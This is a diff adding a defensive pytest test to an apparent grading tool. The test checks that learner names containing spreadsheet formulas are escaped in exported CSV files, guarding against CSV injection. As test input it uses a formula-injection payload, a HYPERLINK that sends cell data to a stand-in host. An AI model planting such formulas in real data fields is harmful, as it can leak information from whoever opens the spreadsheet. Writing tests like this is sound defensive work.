@@ -327,3 +327,24 @@ def test_an_interrupted_run_resumes_and_leaves_no_process(tmp_path, course):
     assert again.returncode == 0, again.stderr
     assert f"{done_before} already graded" in again.stderr and f"autograding {4 - done_before} " in again.stderr
     assert all(r["status"] == res.GRADED for r in _grades(out).values()) and len(_grades(out)) == 4
+
+
+def test_a_learner_named_like_a_formula_cannot_run_in_the_instructors_spreadsheet(tmp_path):
+    """Adversary: a learner sets their LMS name (so the download's file name, their id, the name column) to a
+    spreadsheet formula. Every CSV the instructor opens holds it as text (OWASP CSV injection); scores, negative
+    numbers included, stay numbers."""
+    from grader.batch.files import spreadsheet_safe
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    assert spreadsheet_safe(evil) == "'" + evil and spreadsheet_safe("-2.5") == "-2.5" and spreadsheet_safe(3.0) == 3.0
+    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)" and spreadsheet_safe("doejane") == "doejane"
+    rows = [res.Row("@evil", "08_test", res.GRADED, score=4.0, max_score=4.0, pattern="canvas", name=evil, lms_id="11",
+                    exercises={"q1": {"score": 1.0, "max_score": 1.0, "status": "correct", "misconception": None}})]
+    res.write_csv(rows, tmp_path / "grades.csv")
+    res.write_exercises_csv(rows, tmp_path / "exercises.csv")
+    target, _ = lms.export(rows, tmp_path, "canvas")
+    cells = [cell for name in ("grades.csv", "exercises.csv", target.name)
+             for r in csv.reader(open(tmp_path / name, encoding="utf-8")) for cell in r]
+    assert "'" + evil in cells and "'@evil" in cells
+    assert not any(cell.startswith(("=", "+", "@", "-")) for cell in cells)
+    assert _read(target)[0]["ID"] == "11" and _read(target)[0]["08_test"] == "4"
